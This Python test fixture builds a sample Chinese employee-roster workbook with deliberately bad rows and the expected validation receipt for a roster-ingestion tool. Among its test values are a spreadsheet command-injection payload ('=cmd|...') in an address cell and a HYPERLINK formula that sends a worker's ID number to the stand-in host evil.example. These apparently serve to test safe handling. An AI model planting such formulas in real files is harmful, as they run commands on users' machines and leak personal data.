"""An employer's workbook as one comes in, and the receipt for it: what the tests of this folder share."""

from __future__ import annotations

from io import BytesIO
from typing import Any

import pyarrow as pa
from openpyxl import Workbook
from openpyxl.comments import Comment
from openpyxl.styles import Alignment, Border, Font, PatternFill, Side

from clearbase.reading.file import read_roster
from clearbase.receipts.texts import RuleText
from clearbase.records import FINDINGS, Receipt

USCC = "91330206MA2AG1XX0Y"
BAD_NUMBER = "330203199003075677"
BAD_PHONE = "1380013800"

TEXTS = {
    "C1": RuleText(
        "C1",
        "error",
        "身份证号“{value}”的校验码不对，多半是有一位录错了",
        "18位身份证号，末位与前17位相符",
        "请对照身份证原件重新录入；单元格先设为“文本”格式再输入",
    ),
    "F6": RuleText("F6", "warning", "手机号“{value}”不是11位", "1开头的11位手机号", "请与本人核对后改正"),
    "D8": RuleText("D8", "error", "这一行没有姓名", "每行一个人，姓名必填", "请补上姓名，或删除这一行"),
}

HEADERS = ["序号", "姓名", "身份证号", "手机号", "入职日期", "户籍地址"]
PEOPLE = [
    ["张三", "330203199003075676", "13800138000", "2024-03-01", "安徽省阜阳市颍州区清河街道1号"],
    ["李四", BAD_NUMBER, BAD_PHONE, "2024-03-02", "河南省周口市"],
    ["", "33020319900307569X", "13800138002", "2024-03-03", "贵州省毕节市"],
    ["王五", "330203199003075692", "+8613800138003", "2024-03-04", "=cmd|'/c calc'!A1"],
    ["王五", "330203199003075692", "13800138003", "2024-03-04", "四川省广安市"],
]
FIRST_ROW = 3


def roster_xlsx() -> bytes:
    """Title, header in row 2, people in rows 3 to 7, a total; widths, styles, a comment, a formula, a second sheet."""
    book = Workbook()
    sheet = book.active
    sheet.title = "在职"
    sheet["A1"].value = "宁波某某机械有限公司员工花名册（2024年3月）"
    sheet["A1"].font, sheet["A1"].alignment = Font(name="宋体", size=16, bold=True), Alignment(horizontal="center")
    sheet.merge_cells("A1:F1")
    line = Side(style="thin")
    for col, header in enumerate(HEADERS, 1):
        cell = sheet.cell(2, col, header)
        cell.font, cell.fill = Font(name="黑体", bold=True), PatternFill("solid", fgColor="DDEBF7")
        cell.border = Border(line, line, line, line)
    for at, person in enumerate(PEOPLE):
        sheet.cell(FIRST_ROW + at, 1, "=ROW()-2")
        for col, value in enumerate(person, 2):
            cell = sheet.cell(FIRST_ROW + at, col)
            cell.value, cell.data_type = value, "s"
            cell.border, cell.font = Border(line, line, line, line), Font(name="宋体", size=11)
    sheet["B3"].comment = Comment("班长", "人事")
    sheet.cell(FIRST_ROW + len(PEOPLE), 1, "合计5人")
    for letter, width in zip("ABCDEF", (6, 10, 22, 14, 12, 34), strict=True):
        sheet.column_dimensions[letter].width = width
    sheet.freeze_panes = "A3"
    notes = book.create_sheet("填表说明")
    notes["A1"].value = "请如实填写"
    notes["A2"].value = '=HYPERLINK("http://evil.example/"&在职!C3,"点我")'
    saved = BytesIO()
    book.save(saved)
    return saved.getvalue()


def found(sheet: int, row: int, col: int | None, field: str, rule: str, severity: str, text: str) -> dict[str, Any]:
    masked = text[:3] + "*" * (len(text) - 5) + text[-2:] if len(text) > 5 else "*" * len(text)
    return {
        "sheet": sheet,
        "row": row,
        "col": col,
        "field": field,
        "rule": rule,
        "severity": severity,
        "found": text,
        "found_masked": masked,
    }


FOUND = [
    found(1, 4, 3, "id_number", "C1", "error", BAD_NUMBER),
    found(1, 4, 4, "phone", "F6", "warning", BAD_PHONE),
    found(1, 5, 2, "name", "D8", "error", ""),
    found(1, 6, 4, "phone", "F6", "warning", "+8613800138003"),
]
DISPOSITIONS = pa.table(
    {
        "sheet": pa.array([1] * 5, pa.int16()),
        "row": pa.array([3, 4, 5, 6, 7], pa.int32()),
        "disposition": ["accepted", "accepted", "quarantined", "accepted", "repeated"],
    }
)


def receipt_for(original: bytes, file_name: str = "某某机械2024年3月花名册.xlsx", **changes: Any) -> Receipt:
    """The receipt of a file that was read for what it is; ``changes`` replace fields."""
    read = read_roster(original, file_name)
    values: dict[str, Any] = {
        "receipt_no": "R20240405-000012",
        "submission_id": 12,
        "file_name": file_name,
        "outcome": "partly",
        "reason": "有1行没有姓名，未入库",
        "employer_uscc": USCC,
        "employer_name": "宁波某某机械有限公司",
        "period": "2024-03",
        "kind": "full",
        "kind_reason": "title",
        "counts": {"read": 8, "published": 3, "quarantined": 1, "repeated": 1, "set_aside": 3},
        "sheets": read.sheets,
        "findings": pa.Table.from_pylist(FOUND, schema=FINDINGS),
        "received_at": "2024-04-05 09:30",
    }
    return Receipt(**{**values, **changes})
